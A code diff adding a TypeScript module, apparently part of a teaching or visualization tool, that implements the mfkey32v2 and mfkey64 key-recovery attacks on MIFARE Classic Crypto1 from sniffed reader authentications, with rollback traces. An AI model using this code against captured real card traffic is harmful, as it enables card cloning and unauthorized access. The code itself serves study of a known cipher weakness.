@@ -0,0 +1,112 @@
+import { beBit, copyState, crypto1GetLfsr, crypto1Word, lfsrRollbackBit, lfsrRollbackWord } from './crypto1';
+import { prngSuccessor } from './prng';
+import { lfsrRecovery32 } from './recovery';
+
+// 讀卡機對模擬卡片的一次驗證嘗試（攻擊者在空中介面上看到的數值）
+export interface ReaderAuthAttempt {
+  nT: number;
+  nREnc: number;
+  aREnc: number;
+}
+
+// 回捲過程中每個階段的 LFSR 內容
+export interface RollbackTraceEntry {
+  label: string;
+  lfsr: number;
+}
+
+export interface Mfkey32Result {
+  ks2: number;
+  candidates: number;
+  key: number | null;
+  trace: RollbackTraceEntry[];
+}
+
+// mfkey32v2：同一把金鑰的兩次驗證，nT 可以不同
+// 第一次的 {aR} ⊕ suc2(nT) 即 ks2，先還原出候選狀態，再以第二次驗證過濾
+export const mfkey32v2 = (uid: number, first: ReaderAuthAttempt, second: ReaderAuthAttempt): Mfkey32Result => {
+  const ks2 = (first.aREnc ^ prngSuccessor(first.nT, 64)) >>> 0;
+  const states = lfsrRecovery32(ks2, 0);
+
+  for (const state of states) {
+    const trace: RollbackTraceEntry[] = [{ label: '產生 ks2 前的狀態', lfsr: crypto1GetLfsr(state) }];
+
+    // 依序回捲 aR（無輸入）、{nR}（密文回饋）、UID ⊕ nT，回到初始狀態即為金鑰
+    lfsrRollbackWord(state, 0, false);
+    trace.push({ label: '回捲 32 位元（aR 階段無輸入）', lfsr: crypto1GetLfsr(state) });
+    lfsrRollbackWord(state, first.nREnc, true);
+    trace.push({ label: '回捲 {nR}（密文回饋）', lfsr: crypto1GetLfsr(state) });
+    lfsrRollbackWord(state, (uid ^ first.nT) >>> 0, false);
+    const key = crypto1GetLfsr(state);
+    trace.push({ label: '回捲 UID ⊕ nT → 金鑰', lfsr: key });
+
+    // 以候選金鑰重播第二次驗證，{aR} 吻合才是正確金鑰
+    crypto1Word(state, (uid ^ second.nT) >>> 0, false);
+    crypto1Word(state, second.nREnc, true);
+    if (second.aREnc === ((crypto1Word(state, 0, false) ^ prngSuccessor(second.nT, 64)) >>> 0)) {
+      return { ks2, candidates: states.length, key, trace };
+    }
+  }
+
+  return { ks2, candidates: states.length, key: null, trace: [] };
+};
+
+// 一次完整嗅探到的驗證（包含卡片回應的 {aT}）
+export interface SniffedAuth extends ReaderAuthAttempt {
+  uid: number;
+  aTEnc: number;
+}
+
+// 逐位元回捲的一步
+export interface RollbackBitStep {
+  phase: 'aR' | 'nR' | 'uidNt';
+  bitIndex: number;    // 該字組中的位元位置（由 31 回捲到 0）
+  input: number;       // 回捲時使用的輸入位元
+  keystream: number;   // 該位置的 keystream 位元
+  lfsr: number;        // 回捲後的 LFSR 內容
+}
+
+export interface Mfkey64Result {
+  ks2: number;
+  ks3: number;
+  candidates: number;
+  startLfsr: number;
+  key: number | null;
+  nR: number;          // 回捲 {nR} 時順便解出的明文 nR
+  steps: RollbackBitStep[];
+}
+
+// mfkey64：ks2 還原出候選狀態後，直接以 ks3 篩選，只需要一次驗證
+export const mfkey64 = (auth: SniffedAuth): Mfkey64Result => {
+  const ks2 = (auth.aREnc ^ prngSuccessor(auth.nT, 64)) >>> 0;
+  const ks3 = (auth.aTEnc ^ prngSuccessor(auth.nT, 96)) >>> 0;
+  const states = lfsrRecovery32(ks2, 0);
+  const empty = { ks2, ks3, candidates: states.length, startLfsr: 0, key: null, nR: 0, steps: [] };
+
+  const state = states.find(candidate => {
+    const probe = copyState(candidate);
+    return crypto1Word(probe, 0, false) === ks3;
+  });
+  if (!state) return empty;
+
+  const startLfsr = crypto1GetLfsr(state);
+  const steps: RollbackBitStep[] = [];
+  let nR = 0;
+  const phases: { phase: RollbackBitStep['phase']; word: number; isEncrypted: boolean }[] = [
+    { phase: 'aR', word: 0, isEncrypted: false },
+    { phase: 'nR', word: auth.nREnc, isEncrypted: true },
+    { phase: 'uidNt', word: (auth.uid ^ auth.nT) >>> 0, isEncrypted: false },
+  ];
+
+  // 與 lfsrRollbackWord 相同的順序，但記錄每一個位元
+  phases.forEach(({ phase, word, isEncrypted }) => {
+    for (let i = 31; i >= 0; i--) {
+      const input = beBit(word, i);
+      const keystream = lfsrRollbackBit(state, input, isEncrypted);
+      if (phase === 'nR') nR |= (input ^ keystream) << (i ^ 24);
+      steps.push({ phase, bitIndex: i, input, keystream, lfsr: crypto1GetLfsr(state) });
+    }
+  });
+
+  return { ks2, ks3, candidates: states.length, startLfsr, key: crypto1GetLfsr(state), nR: nR >>> 0, steps };
+};